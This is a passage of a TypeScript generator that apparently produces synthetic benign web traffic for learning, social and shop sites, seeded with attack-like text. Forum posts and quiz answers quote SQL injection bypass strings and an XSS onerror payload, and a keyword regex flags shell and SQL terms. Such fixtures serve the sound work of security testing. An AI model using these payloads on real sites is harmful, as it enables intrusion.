    'import java.util.*;\n\npublic class Main {\n    public static void main(String[] args) {\n        Scanner sc = new Scanner(System.in);\n        Map<String, Integer> counts = new TreeMap<>();\n        while (sc.hasNext()) counts.merge(sc.next().toLowerCase(), 1, Integer::sum);\n        counts.forEach((k, v) -> System.out.println(k + " " + v));\n    }\n}\n',
  ],
  [
    'ruby',
    'def template(name)\n  "Hello, #{name}! Today is #{Time.now.strftime(\'%A\')}."\nend\nputs template(gets.chomp)\n',
  ],
];
const FORUM_QS: [string, string][] = [
  [
    "Why does my WHERE clause with 'O'Brien' break?",
    "I'm on lesson 4.3 and this query fails:\n\n```sql\nSELECT * FROM users WHERE last_name = 'O'Brien';\n```\n\nError: `syntax error at or near \"Brien\"`. How do I escape the quote? I tried `\\'` but that didn't work either.",
  ],
  [
    'UNION vs UNION ALL — which one for the exercise?',
    'The exercise says "combine both tables but keep duplicates". Is that `UNION ALL`? My answer with `UNION` passed 4/5 tests.',
  ],
  [
    'Shell: difference between $(cmd) and `cmd`?',
    "In the bash module they use `$(date +%s)` but an old StackOverflow answer uses backticks `` `date +%s` ``. Is there any difference? Also what's `${IFS}`?",
  ],
  [
    'Test 3 fails: "expected 6 got 5"',
    "My loop is:\n\n```js\nfor (let i = 0; i < arr.length - 1; i++) { total += arr[i]; }\n```\n\nI don't see the bug 😭",
  ],
  [
    'Is eval() ever OK?',
    'The calculator project hint says "don\'t use eval". But `eval("2+3*4")` is literally the answer. Why is it bad? Security? Performance?',
  ],
  [
    'Permission denied when running ./script.sh',
    "```\n$ ./script.sh\nbash: ./script.sh: Permission denied\n$ ls -l script.sh\n-rw-r--r-- 1 me me 120 Mar 12 10:01 script.sh\n```\nDo I need `chmod +x` or `sudo`? I don't want to run things as root.",
  ],
  [
    'Why is SLEEP(5) in the SQL injection lesson?',
    "In the security module the example login bypass is `' OR 1=1 --` and then they show a time-based one. Why does the DB sleep if the condition is true? Is it only MySQL?",
  ],
  [
    'How to drop a table only if it exists?',
    '`DROP TABLE IF EXISTS temp_scores;` works in Postgres but the sandbox uses SQLite 3.45 — same syntax?',
  ],
  [
    "XSS exercise: why doesn't innerHTML run my <script>?",
    'I set `el.innerHTML = "<script>alert(1)</script>"` and nothing happens, but the lesson says that\'s dangerous. Then `<img src=x onerror=alert(1)>` DOES pop up. Why the difference??',
  ],
  [
    'Recursion depth exceeded',
    'Traceback (most recent call last):\n  File "main.py", line 12, in <module>\n    print(fact(5000))\n  File "main.py", line 4, in fact\n    return n * fact(n - 1)\nRecursionError: maximum recursion depth exceeded\n\nShould I use `sys.setrecursionlimit` or rewrite as a loop?',
  ],
  [
    'curl returns 301 in the HTTP lesson',
    'Running `curl http://httpbin.org/get` gives 301. Adding `-L` fixes it. What does -L do exactly? And why does `wget` follow it by default?',
  ],
  [
    'Regex: match ../ in paths',
    'For the path normalizer kata I need to collapse `a/b/../c` to `a/c`. Is `/[^/]+\\/\\.\\.\\//` right? It fails on `../../x`.',
  ],
];

function elearning(): void {
  const api = '/api';
  for (const [lang, src] of SUBMISSIONS) {
    addJson(
      'code',
      'POST',
      `${api}/exercises/${int(100, 999)}/submissions`,
      chance(0.7) ? browser(LEARN, `/courses/${lang}/exercises/${int(1, 60)}`) : mobile('learn'),
      {
        submission: { language: lang, source: src, runTests: true },
        attempt: int(1, 9),
        clientTimeMs: int(20000, 3600000),
      },
    );
  }
  for (const [title, body] of FORUM_QS) {
    addJson('code', 'POST', `${api}/forum/threads`, browser(LEARN, '/community/new'), {
      title,
      body,
      courseId: pick(['sql-basics', 'bash-101', 'js-fundamentals', 'python-intro', 'web-security']),
      tags: pick([['sql', 'help'], ['bash'], ['javascript', 'bug'], ['security'], ['python']]),
      notifyOnReply: true,
    });
  }
  const replies = [
    "Use two single quotes: `'O''Brien'`. Better: use a parameterized query, e.g. `cur.execute(\"SELECT * FROM users WHERE last_name = %s\", (name,))`.",
    '`$(...)` nests better: `echo $(basename $(pwd))`. Backticks need escaping when nested. `${IFS}` is the field separator (space/tab/newline by default).',
    'Off-by-one: `i < arr.length - 1` skips the last element. Use `i < arr.length` or `arr.reduce((a, b) => a + b, 0)`.',
    "Because the `<script>` inserted via innerHTML isn't executed per the HTML spec, but event handlers like onerror are. Use `textContent` instead.",
    'Yes, `chmod +x script.sh` — no need for sudo. Never `chmod 777` things 🙂',
    'Same syntax in SQLite 👍 `DROP TABLE IF EXISTS t;` — also works for views: `DROP VIEW IF EXISTS v;`',
  ];
  for (const r of replies) {
    addJson(
      'prose',
      'POST',
      `${api}/forum/threads/${int(1000, 9999)}/replies`,
      chance(0.5) ? browser(LEARN, '/community/t/1234') : mobile('learn'),
      { body: r, quoteId: chance(0.3) ? int(10000, 99999) : null },
    );
  }
  // quiz answers
  const quizzes = [
    [
      { q: 1, choice: 'b' },
      { q: 2, choice: 'd' },
      {
        q: 3,
        text: 'DROP removes the table; TRUNCATE removes all rows but keeps the table; DELETE removes rows matching WHERE.',
      },
    ],
    [
      { q: 1, choices: ['a', 'c'] },
      { q: 2, text: 'ls -la | grep ".txt" | wc -l' },
      { q: 3, text: 'Use && so the second command only runs if the first succeeds; ; always runs it.' },
    ],
    [
      { q: 1, text: 'typeof null === "object"' },
      { q: 2, choice: 'c' },
      { q: 3, text: '<script> tags in innerHTML do not execute but <img onerror> handlers do' },
    ],
    [
      { q: 1, text: 'SELECT name FROM students WHERE grade > 90 ORDER BY name' },
      { q: 2, choice: 'a' },
    ],
    [
      { q: 4, text: "It's an SQL injection: ' OR '1'='1 makes the WHERE always true" },
      { q: 5, choice: 'b' },
    ],
  ];
  for (const a of quizzes) {
    addJson('rest-write', 'POST', `${api}/quizzes/${int(10, 99)}/attempts`, browser(LEARN, '/quiz'), {
      answers: a,
      durationSec: int(60, 900),
      finished: true,
    });
  }
  add(
    'form',
    'POST',
    '/login',
    browser(LEARN, '/login', { accept: 'text/html,*/*;q=0.8' }),
    form([
      ['email', 'zoe.kowalski+learn@gmail.com'],
      ['password', 'c0rrect-Horse_battery$staple!'],
      ['remember_me', '1'],
      ['next', '/courses/sql-basics/lesson/4.3?tab=exercise'],
    ]),
    'application/x-www-form-urlencoded',
  );
  add(
    'form',
    'POST',
    `${api}/courses/sql-basics/enroll`,
    browser(LEARN, '/courses/sql-basics'),
    form([
      ['plan', 'monthly'],
      ['coupon', 'STUDENT-50'],
      ['referrer', 'https://www.reddit.com/r/learnprogramming/comments/1abc/which_sql_course/'],
    ]),
    'application/x-www-form-urlencoded',
  );
  // search
  for (const q of [
    '"left join" null',
    'bash for loop $(ls)',
    'python -"python 2"',
    'eval vs new Function',
    'sql injection OR xss',
    'how to exit vim :wq',
    'git rebase -i HEAD~3',
    'c++ std::vector<int> sort',
    "what's 'NaN' === NaN",
  ]) {
    add(
      'search',
      'GET',
      `${api}/forum/search?${qs({ q, sort: pick(['relevance', 'newest', 'votes']), page: 1 })}`,
      chance(0.6) ? browser(LEARN, '/community') : mobile('learn'),
    );
  }
  add(
    'search',
    'GET',
    `${api}/courses?${qs({ 'filter[level]': 'beginner', 'filter[topic]': 'sql,shell', sort: '-rating', 'page[size]': 12 })}`,
    browser(LEARN, '/catalog'),
  );
  // notebook upload
  {
    const nb = {
      cells: [
        { cell_type: 'markdown', source: ['# Week 3: pandas\n'] },
        {
          cell_type: 'code',
          source: [
            'import pandas as pd\n',
            "df = pd.read_csv('sales.csv')\n",
            'df.query(\'region == "EMEA" and revenue > 1000\')\n',
          ],
          outputs: [],
          execution_count: 3,
        },
      ],
      metadata: { kernelspec: { name: 'python3' } },
      nbformat: 4,
      nbformat_minor: 5,
    };
    const mp = multipart([
      { name: 'assignmentId', content: 'wk3-pandas' },
      {
        name: 'file',
        filename: 'week3.ipynb',
        type: 'application/x-ipynb+json',
        content: JSON.stringify(nb),
      },
    ]);
    add(
      'multipart',
      'POST',
      `${api}/assignments/upload`,
      browser(LEARN, '/assignments/wk3-pandas'),
      mp.body,
      mp.ct,
    );
    const mp2 = multipart([
      {
        name: 'file',
        filename: 'sales.csv',
        type: 'text/csv',
        content:
          'region,rep,revenue,notes\nEMEA,"Müller, K.",1520.50,\nAPAC,Nakamura,980,"returned 2 units; see #44"\nNA,"O\'Connor",2200,"upsell -> annual"\n',
      },
    ]);
    add('multipart', 'POST', `${api}/datasets`, browser(LEARN, '/sandbox'), mp2.body, mp2.ct);
  }
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/me/settings`,
    browser(LEARN, '/settings'),
    { editor: { theme: 'monokai', keymap: 'vim', fontSize: 14, tabSize: 2 }, emailDigest: null },
    'application/merge-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `${api}/me/progress`,
    mobile('learn'),
    [
      { op: 'add', path: '/completedLessons/-', value: 'sql-basics/4.3' },
      { op: 'replace', path: '/streak', value: int(2, 90) },
    ],
    'application/json-patch+json',
  );
  add('delete', 'DELETE', `${api}/forum/replies/${int(10000, 99999)}`, browser(LEARN, '/community/t/1234'));
  add('delete', 'DELETE', `${api}/exercises/${int(100, 999)}/submissions/${uuid()}`, mobile('learn'));
  addGql(
    'graphql',
    '/graphql',
    browser(LEARN, '/dashboard'),
    'CourseProgress',
    'query CourseProgress($slug: String!) {\n  course(slug: $slug) {\n    title\n    modules { title lessons { slug title completed(userId: "me") } }\n  }\n}',
    { slug: 'bash-101' },
  );
  addGql(
    'graphql',
    '/graphql',
    browser(LEARN, '/community/t/1234'),
    'Vote',
    'mutation Vote($id: ID!, $dir: VoteDirection!) { vote(postId: $id, direction: $dir) { score myVote } }',
    { id: String(int(10000, 99999)), dir: 'UP' },
  );
  addGqlGet(
    '/graphql',
    mobile('learn'),
    'query Leaderboard($week: Int) { leaderboard(week: $week, first: 10) { rank user { handle } points } }',
    { week: 11 },
  );
  // webhook from a grading service
  addJson(
    'webhook',
    'POST',
    '/webhooks/grader',
    sdk({
      'user-agent': 'codepath-grader/2.4 (+judge0)',
      'x-grader-signature': `t=${int(1790000000, 1799999999)},v1=${hex(64)}`,
    }),
    {
      type: 'submission.graded',
      data: {
        submissionId: uuid(),
        status: { id: 4, description: 'Wrong Answer' },
        stdout: '5\n',
        expected_output: '6\n',
        stderr: null,
        compile_output: null,
        time: '0.021',
        memory: 3276,
        testsPassed: 4,
        testsTotal: 5,
      },
    },
  );
  const i18nQs = [
    [
      'SQLのJOINについて',
      '`INNER JOIN` と `LEFT JOIN` の違いがよく分かりません。NULL が出てくるのはなぜですか？',
    ],
    ['Dúvida: laço for em Bash', 'Por que `for i in {1..$n}` não funciona? Tive que usar `seq 1 $n`.'],
    ['Помогите с рекурсией', 'Получаю RecursionError при n = 5000. Как переписать через цикл?'],
  ];
  for (const [t, b] of i18nQs)
    addJson('i18n', 'POST', `${api}/forum/threads`, browser(LEARN, '/community/new'), {
      title: t,
      body: b,
      courseId: 'sql-basics',
      tags: ['help'],
    });
}

// --- 5. Social network / community ------------------------------------------------------------------------

const SOCIAL = 'commons.hearth.social';
const POSTS = [
  'Just shipped v2.0 of our open-source CLI 🎉🚀 Huge thanks to @kwame_dev and @ingrid.o for the reviews! #opensource #rustlang https://github.com/acme/cli/releases/tag/v2.0.0',
  "Hot take: `SELECT *` in production code is fine if you know what you're doing. Fight me 🥊 #sql #databases",
  "Anyone else's feed showing posts from 3 days ago at the top?? Refresh doesn't help. @HearthSupport",
  'Sunday bake: sourdough w/ 75% hydration 🍞\n\n1. autolyse 1h\n2. stretch & fold x4\n3. bulk 5h @ 24°C\n4. cold retard overnight\n\nResult 👇 #breadtok #sourdough',
  "> The best way to predict the future is to invent it.\n\nAlan Kay said that in 1971 and it's still true. What are you building this weekend?",
  'PSA: if your "free crypto giveaway" DM asks you to paste a script into the console — DON\'T. It steals your session. Report & block 🚫',
  'My kid asked why the sky is blue and I ended up explaining Rayleigh scattering with a flashlight and a glass of milk 😂 #parenting #science',
  'We dropped our prices 20% for students & teachers this month → link in bio. Use code EDU20 at checkout.',
  'Reminder: the meetup is Thu 7pm @ The Foundry (2nd floor). Bring laptops; we\'re doing a live "rm -rf node_modules && npm i" speedrun 😅 #jsmeetup',
  "Can't believe they deleted the old forum archives. 10 years of answers gone. Is there a backup anywhere? cc @archiveteam",
  'Thread 🧵 on why our on-call rotation went from 40 pages/week to 6:\n1/ we deleted 70% of alerts\n2/ every alert needs a runbook\n3/ "sleep on it" rule: no new alert until it fired manually 3x',
  '**Update:** the bug where emoji 👩🏽‍💻 broke usernames is fixed! Thanks for all the reports 💜',
  'Who else reads the `man` pages for fun? `man 5 passwd` is surprisingly interesting.',
  'Finally got my 100% on the Advent of Code day 12 🎄⭐⭐ (took me 4 hours, my part 2 was O(n³) lol)',
  "Is it just me or does every recipe site make you scroll past someone's life story before the ingredients? 🙄",
];
const COMMENTS = [
  'This is so cool!! 😍',
  "@kwame_dev congrats!! can't wait to try it",
  'Source? 🤔',
  '100% agree. Also `SELECT *` breaks when someone adds a column and your ORM maps by position 😬',
  'lol same. my cat "helped" with the bulk fermentation 🐈',
  'Did you try logging out & back in? Worked for me.',
  '+1 to this. We did the same & pages dropped ~80%.',
  '<3 this community',
  'This aged well 😂😂',
  "Where's the 2nd floor entrance? Last time the door at the back was locked >:(",
  'Thanks for the PSA — my uncle almost fell for it last week.',
  'Lmao "O(n³)" is a mood',
];

function social(): void {
  const api = '/api/v1';
  for (const p of POSTS) {
    const text = p;
    addJson(
      /[`<>;|&$]|select|drop|delete|script|rm -rf/i.test(text) ? 'prose' : 'rest-write',
      'POST',
      `${api}/statuses`,
      chance(0.6) ? mobile('social', { 'idempotency-key': uuid() }) : browser(SOCIAL, '/home'),
      {
        status: text,
        visibility: pick(['public', 'public', 'unlisted', 'private']),
        language: 'en',
        sensitive: false,
        spoiler_text: '',
        media_ids: chance(0.3) ? [String(int(1e17, 9e17))] : [],
        poll: null,
      },
    );
  }
  for (const c of COMMENTS) {
    addJson(
      'prose',
      'POST',
      `${api}/posts/${int(1e6, 9e6)}/comments`,
      chance(0.5) ? mobile('social') : browser(SOCIAL, `/p/${b62(11)}`),
      {
        body: c,
        parentId: chance(0.3) ? String(int(1e6, 9e6)) : null,
        mentions: (c.match(/@[\w.]+/g) ?? []).map((m) => m.slice(1)),
      },
    );
  }
  // jsonapi (community forum backend uses JSON:API)
  const topics: [string, string][] = [
    [
      '[Guide] Setting up a Raspberry Pi home server',
      "## What you need\n\n- Raspberry Pi 5 (8GB)\n- SSD + USB3 adapter\n\n## Steps\n\n```bash\nsudo apt update && sudo apt full-upgrade -y\nsudo apt install -y docker.io\nsudo usermod -aG docker $USER\n```\n\nThen reboot. **Don't** expose port 22 to the internet without `fail2ban`!",
    ],
    [
      'Rules for the #marketplace channel (please read)',
      '1. No MLM / "passive income" posts\n2. Price in the title, e.g. `[FS] Keychron K2 — $60`\n3. No DMs asking for "just send me the money first"\n4. Be nice ❤️',
    ],
    [
      'Weekly "What are you working on?" thread',
      'Share your side projects! Screenshots welcome. Last week: @noah built a <canvas> game in 13kb 🤯',
    ],
    ['Poll: tabs or spaces?', 'Vote below 👇 (this will end well)'],
  ];
  for (const [title, body] of topics) {
    addJson(
      'jsonapi',
      'POST',
      '/forum/api/discussions',
      browser(SOCIAL, '/forum'),
      {
        data: {
          type: 'discussions',
          attributes: { title, content: body },
          relationships: { tags: { data: [{ type: 'tags', id: String(int(1, 40)) }] } },
        },
      },
      'application/vnd.api+json',
    );
  }
  addJson(
    'jsonapi',
    'PATCH',
    `/forum/api/posts/${int(10000, 99999)}`,
    browser(SOCIAL, '/forum/d/123'),
    {
      data: {
        type: 'posts',
        id: String(int(10000, 99999)),
        attributes: { content: 'Edit: fixed the typo in step 3 (`usermod -aG`, not `-G`). Thanks @lukas!' },
      },
    },
    'application/vnd.api+json',
  );
  addJson(
    'jsonapi',
    'POST',
    '/forum/api/posts',
    mobile('social', { accept: 'application/vnd.api+json' }),
    {
      data: {
        type: 'posts',
        attributes: {
          content:
            "Counterpoint: tabs are accessible — screen readers & people who need 8-wide indents can pick their width. Spaces can't do that.",
        },
        relationships: { discussion: { data: { type: 'discussions', id: String(int(100, 999)) } } },
      },
    },
    'application/vnd.api+json',
  );
  // reactions / follow
  addJson('rest-write', 'POST', `${api}/posts/${int(1e6, 9e6)}/reactions`, mobile('social'), {
    emoji: pick(['❤️', '😂', '🔥', '👏🏽', '🫶']),
  });
  addJson('rest-write', 'POST', `${api}/accounts/${int(1e5, 9e5)}/follow`, browser(SOCIAL, '/@ingrid.o'), {
    reblogs: true,
    notify: false,
    languages: ['en', 'nb'],
  });
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/accounts/update_credentials`,
    browser(SOCIAL, '/settings/profile'),
    {
      display_name: 'Zoë 🌻 (she/her)',
      note: 'Backend dev @ a tiny startup · coffee > sleep · views = mine · 🇵🇱🇳🇴\n<3 Rust, Postgres & bad puns',
      fields_attributes: {
        '0': { name: 'Website', value: 'https://zoe.dev' },
        '1': { name: 'Pronouns', value: 'she/her' },
      },
      avatar: null,
    },
    'application/merge-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `${api}/me/preferences`,
    mobile('social'),
    [
      { op: 'replace', path: '/notifications/mentions', value: true },
      { op: 'add', path: '/mutedWords/-', value: 'crypto giveaway' },
      { op: 'remove', path: '/mutedWords/0' },
    ],
    'application/json-patch+json',
  );
  // searches
  for (const q of [
    '#rustlang OR #golang',
    '@kwame_dev',
    'from:ingrid.o "raspberry pi"',
    'sourdough -discard',
    'is:poll tabs spaces',
    'café ☕',
    'C# vs F#',
    '"rm -rf" meme',
    '100% <3',
  ]) {
    add(
      'search',
      'GET',
      `${api}/search?${qs({ q, type: pick(['statuses', 'accounts', 'hashtags']), resolve: 'true', limit: 20 })}`,
      chance(0.5) ? mobile('social') : browser(SOCIAL, '/explore'),
    );
  }
  add(
    'search',
    'GET',
    `${api}/timelines/tag/${encodeURIComponent('sourdough')}?${qs({ max_id: String(int(1e17, 9e17)), limit: 40 })}`,
    mobile('social'),
  );
  add('delete', 'DELETE', `${api}/statuses/${int(1e17, 9e17)}`, mobile('social'));
  add(
    'delete',
    'DELETE',
    `${api}/posts/${int(1e6, 9e6)}/reactions/${encodeURIComponent('🔥')}`,
    browser(SOCIAL, '/home'),
  );
  add('delete', 'DELETE', `${api}/filters/${int(100, 999)}`, browser(SOCIAL, '/settings/filters'));
  // media upload
  for (const [fname, desc] of [
    ['IMG_20260315_183455.png', 'A loaf of sourdough bread on a cooling rack, golden crust with an "ear" 🍞'],
    ['screenshot.png', 'Screenshot of a terminal running `cargo build --release` with 0 warnings'],
  ] as const) {
    const mp = multipart([
      { name: 'file', filename: fname, type: 'image/png', content: pngish() },
      { name: 'description', content: desc },
      { name: 'focus', content: '0.0,-0.3' },
    ]);
    add(
      'multipart',
      'POST',
      '/api/v2/media',
      chance(0.5) ? mobile('social') : browser(SOCIAL, '/home'),
      mp.body,
      mp.ct,
    );
  }
  addGql(
    'graphql',
    '/graphql',
    mobile('social'),
    'HomeFeed',
    'query HomeFeed($first: Int!, $after: String) {\n  feed(first: $first, after: $after) {\n    edges { cursor node { ... on Post { id text createdAt author { handle avatarUrl } reactions { emoji count } } ... on Repost { id original { id } } } }\n  }\n}',
    { first: 20, after: b64(`cursor:${int(1000, 9999)}`) },
  );
  addGql(
    'graphql',
    '/graphql',
    browser(SOCIAL, '/compose'),
    'CreatePost',
    'mutation CreatePost($input: CreatePostInput!) { createPost(input: $input) { post { id url } errors { field message } } }',
    {
      input: {
        text: 'New blog post: "Why we moved from MongoDB to Postgres (and what we miss)" → https://blog.zoe.dev/mongo-to-pg #postgres',
        visibility: 'PUBLIC',
      },
    },
  );
  addGqlGet('/graphql', browser(SOCIAL, '/explore'), 'query Trending { trending(first: 10) { tag uses } }');
  // notifications push (server to server, ActivityPub-ish)
  addJson(
    'webhook',
    'POST',
    '/inbox',
    {
      'user-agent': 'Mastodon/4.3.2 (http.rb/5.2.0; +https://fosstodon.org/)',
      accept: 'application/activity+json',
      date: new Date(Date.UTC(2026, 2, 17, 9, 12)).toUTCString(),
      digest: `SHA-256=${b64(hex(32))}`,
      signature: `keyId="https://fosstodon.org/users/ingrid#main-key",algorithm="rsa-sha256",headers="(request-target) host date digest",signature="${b64(hex(128))}"`,
    },
    {
      '@context': 'https://www.w3.org/ns/activitystreams',
      id: `https://fosstodon.org/users/ingrid/statuses/${int(1e17, 9e17)}/activity`,
      type: 'Create',
      actor: 'https://fosstodon.org/users/ingrid',
      object: {
        type: 'Note',
        content:
          '<p>Replying to <span class="h-card"><a href="https://commons.hearth.social/@zoe" class="u-url mention">@<span>zoe</span></a></span> — yes! <a href="https://fosstodon.org/tags/rust" class="mention hashtag" rel="tag">#<span>rust</span></a></p>',
        to: ['https://www.w3.org/ns/activitystreams#Public'],
      },
    },
    'application/activity+json',
  );
  // i18n
  const intl = [
    'مرحباً بالجميع! 👋 هذا أول منشور لي هنا. أعمل مطوّرة واجهات أمامية في القاهرة #مطورين',
    'שלום לכולם! מישהו יודע מתי המפגש הבא בתל אביב? 🙏',
    'आज का दिन बहुत अच्छा रहा! नया प्रोजेक्ट शुरू किया 🚀 #हिंदी #कोडिंग',
    'วันนี้อากาศดีมาก ไปเดินเล่นที่สวนลุมพินีมา 🌳☀️',
    '오늘 처음으로 Rust로 웹서버 만들어봤어요!! 생각보다 어렵네요 ㅠㅠ #러스트',
    '家族写真📸 みんな元気です！ #週末',
    "Ça me rend fou : le café du coin a fermé 😭☕ Quelqu'un connaît une bonne adresse à Lyon ?",
    'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇ text is back 👻 and so is 👨‍👩‍👧‍👦 family emoji & 🏳️‍🌈',
    'Ελπίζω όλοι να περάσατε καλά το Σαββατοκύριακο! 🇬🇷',
    'Tôi vừa hoàn thành khóa học SQL cơ bản 🎓 cảm ơn @codepath!',
  ];
  for (const t of intl)
    addJson('i18n', 'POST', `${api}/statuses`, mobile('social'), {
      status: t,
      visibility: 'public',
      language: null,
    });
}

// --- 6. E-commerce marketplace ----------------------------------------------------------------------------

const SHOP = 'www.bazaarly.com';
const LISTING_HTML = [
  '<h2>Handmade Ceramic Mug – 12 oz</h2><p>Each mug is <strong>wheel-thrown</strong> in our studio in Asheville, NC. Because they\'re handmade, sizes vary slightly (±5%).</p><ul><li>Dishwasher &amp; microwave safe</li><li>Lead-free glaze</li><li>Capacity: 350&nbsp;ml</li></ul><p style="color: rgb(204, 0, 0);"><em>Note: colors may look different on your screen.</em></p>',
  '<p><span style="font-size: 18px; font-weight: bold;">USB-C 65W GaN Charger</span></p><table border="1" cellpadding="4" style="border-collapse: collapse; width: 100%;"><tbody><tr><th>Port</th><th>Output</th></tr><tr><td>USB-C1</td><td>65W max (20V⎓3.25A)</td></tr><tr><td>USB-C2</td><td>30W</td></tr><tr><td>USB-A</td><td>18W</td></tr></tbody></table><p>Compatible with MacBook Air, iPad Pro, Pixel, Galaxy S24 &amp; more.</p>',
  '<div class="product-video"><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe></div><p>Watch how we make our <a href="https://www.bazaarly.com/shop/oakandiron?utm_source=listing&amp;utm_medium=video" rel="nofollow">leather wallets</a> by hand.</p>',
  '<h3>Size guide</h3><ol><li>Measure your chest <u>under</u> the arms.</li><li>Compare with the table below.</li></ol><p><img src="https://cdn.bazaarly.com/u/8812/size-chart.png" alt="Size chart: S 86–91 cm, M 96–101 cm, L 106–111 cm" style="max-width:100%;height:auto;" loading="lazy"></p><blockquote>Runs small — if in doubt, size up!</blockquote>',
  '<p>Vintage 1970s <b>Pyrex</b> bowl set (4 pcs) 🍲</p><p>Condition: 8/10 — light utensil marks, no chips/cracks.<br>Ships in double box w/ bubble wrap.<br><br><span style="background-color: #fffbcc;">⚠️ Not for stovetop use.</span></p><p>Questions? <a href="mailto:vintage.finds@proton.me">Email me</a>.</p>',
  '<p dir="rtl" style="text-align: right;">سجادة يدوية الصنع من الصوف الطبيعي 100٪</p><p>Hand-knotted wool rug, 160 × 230 cm. Natural dyes.</p><pre><code>Care: vacuum w/o beater bar; spot clean only</code></pre>',
];
const REVIEWS = [
  '5/5 would buy again!! Arrived in 2 days <3',
  'Size runs small; order 1 size up. Otherwise great quality & the color is exactly as pictured.',
  'Charger gets HOT (like >50°C) when charging my laptop + phone at the same time. Works though. 3 stars.',
  'Seller was super responsive when the first one arrived broken 💔 — sent a replacement same day. 10/10 service.',
  "Don't buy. Stopped working after 2 weeks and the seller wants me to pay return shipping ($12.99) for a $15 item.",
  'The description says "dishwasher safe" but the glaze cracked after the 3rd wash. Update: seller refunded 50%.',
  "Honestly better than the $80 one from the big brand. The only con: the cable is 1m, I'd prefer 2m.",
  'Gift for my wife — she loved it 😊 packaging was beautiful, came with a handwritten note.',
  'Meh. It\'s OK for the price I guess?? The "leather" smells like plastic.',
  'Bought 3, one was missing from the box. Seller fixed it within 24h. Would order from them again :)',
];
const ORDER_NOTES = [
  'Please leave at the back door & ring bell twice. Gate code: #4471*',
  "It's a gift — please don't include the invoice/prices in the box!",
  'Deliver after 5pm only (no one home during the day). Thx!',
  'Apt 3B — buzzer is broken, call 555-0199 when outside',
  'If out of stock in blue, send green. NOT red.',
  'Can you engrave "To Mom <3 — love, J & K" on the back? (max 30 chars I know, sorry)',
];

function marketplace(): void {
  const api = '/api/v3';
  for (const html of LISTING_HTML) {
    addJson(
      'cms-html',
      chance(0.5) ? 'POST' : 'PUT',
      chance(0.5) ? `${api}/listings` : `${api}/listings/${int(1e8, 9e8)}`,
      browser(SHOP, '/seller/listings/edit'),
      {
        listing: {
          title: pick([
            'Handmade Ceramic Mug',
            'USB-C 65W GaN Charger (3-port)',
            'Leather Bifold Wallet – Personalized',
            'Organic Cotton Tee',
            'Vintage Pyrex Bowls x4',
            'Wool Rug 160x230',
          ]),
          description_html: html,
          price: { amount: int(500, 25000), currency: pick(['USD', 'EUR', 'GBP']) },
          quantity: int(1, 50),
          tags: pick([
            ['handmade', 'ceramic'],
            ['usb-c', 'charger', 'gan'],
            ['vintage', '70s'],
          ]),
          shipping_profile_id: int(1000, 9999),
          variations: chance(0.5) ? [{ property: 'Color', values: ['Sage', 'Cream', 'Midnight blue'] }] : [],
        },
      },
    );
  }
  for (const r of REVIEWS) {
    addJson(
      'prose',
      'POST',
      `${api}/orders/${int(1e7, 9e7)}/review`,
      chance(0.5) ? mobile('shop') : browser(SHOP, '/purchases'),
      {
        rating: int(1, 5),
        title: r.split(/[.!;—]/)[0]!.slice(0, 40),
        text: r,
        photos: [],
        recommend: chance(0.7),
      },
    );
  }
  for (const n of ORDER_NOTES) {
    addJson(
      'rest-write',
      'POST',
      `${api}/checkout/${uuid()}/notes`,
      chance(0.5) ? mobile('shop') : browser(SHOP, '/checkout'),
      {
        note_to_seller: n,
        gift: n.includes('gift'),
        gift_message: n.includes('gift') ? 'Happy birthday!! 🎂 xoxo' : null,
      },
    );
  }
  for (const code of ['SAVE20-FALL', 'FREESHIP', 'EDU20', 'welcome10', 'BF-2026/VIP', 'GIFT$25OFF']) {
    addJson(
      'rest-write',
      'POST',
      `${api}/cart/coupons`,
      chance(0.5) ? mobile('shop') : browser(SHOP, '/cart'),
      { code, cart_id: uuid() },
    );
  }
  // jsonapi product resources (marketplace partner API)
  for (let i = 0; i < 4; i++) {
    addJson(
      'jsonapi',
      pick(['POST', 'PATCH']),
      `/partner/v1/products${i % 2 ? `/${int(1e6, 9e6)}` : ''}`,
      sdk({ accept: 'application/vnd.api+json' }),
      {
        data: {
          type: 'products',
          ...(i % 2 ? { id: String(int(1e6, 9e6)) } : {}),
          attributes: pick([
            {
              sku: 'MUG-12-SAGE',
              name: 'Ceramic Mug 12oz – Sage',
              gtin: '0' + int(10000000000, 99999999999),
              stock: int(0, 99),
            },
            {
              sku: 'CHG-65W-3P',
              name: 'GaN Charger 65W (3-port)',
              'bullet-points': ['PD 3.0 & PPS', 'Foldable plug', '18-month warranty'],
            },
            {
              sku: 'TEE-ORG-M-BLK',
              name: 'Organic Tee (M) — Black',
              'care-instructions': 'Wash ≤30°C; do not tumble dry',
            },
          ]),
          relationships: { category: { data: { type: 'categories', id: String(int(10, 99)) } } },
        },
      },
      'application/vnd.api+json',
    );
  }
  // stripe webhooks
  addJson(
    'webhook',
    'POST',
    '/webhooks/stripe',
    {
      'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
      accept: '*/*; q=0.5, application/xml',
      'cache-control': 'no-cache',
      'stripe-signature': `t=${int(1790000000, 1799999999)},v1=${hex(64)},v0=${hex(64)}`,
    },
    {
      id: `evt_${b62(24)}`,
      object: 'event',
      api_version: '2025-09-30.clover',
      created: int(1790000000, 1799999999),
      type: 'payment_intent.succeeded',
      data: {
        object: {
          id: `pi_${b62(24)}`,
          object: 'payment_intent',
          amount: 4599,
          currency: 'usd',
          status: 'succeeded',
          metadata: { order_id: String(int(1e7, 9e7)), cart: 'MUG-12-SAGE x2; CHG-65W-3P x1' },
          receipt_email: 'li.wang@acme-corp.com',
          shipping: {
            name: "Siobhán O'Connor",
            address: {
              line1: '12 Main St.',
              line2: 'Apt #4',
              city: 'Dublin',
              postal_code: 'D02 X285',
              country: 'IE',
            },
          },
        },
      },
      livemode: true,
      pending_webhooks: 1,
      request: { id: `req_${b62(14)}`, idempotency_key: uuid() },
    },
  );
  addJson(
    'webhook',
    'POST',
    '/webhooks/stripe',
    {
      'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
      accept: '*/*; q=0.5, application/xml',
      'stripe-signature': `t=${int(1790000000, 1799999999)},v1=${hex(64)}`,
    },
    {
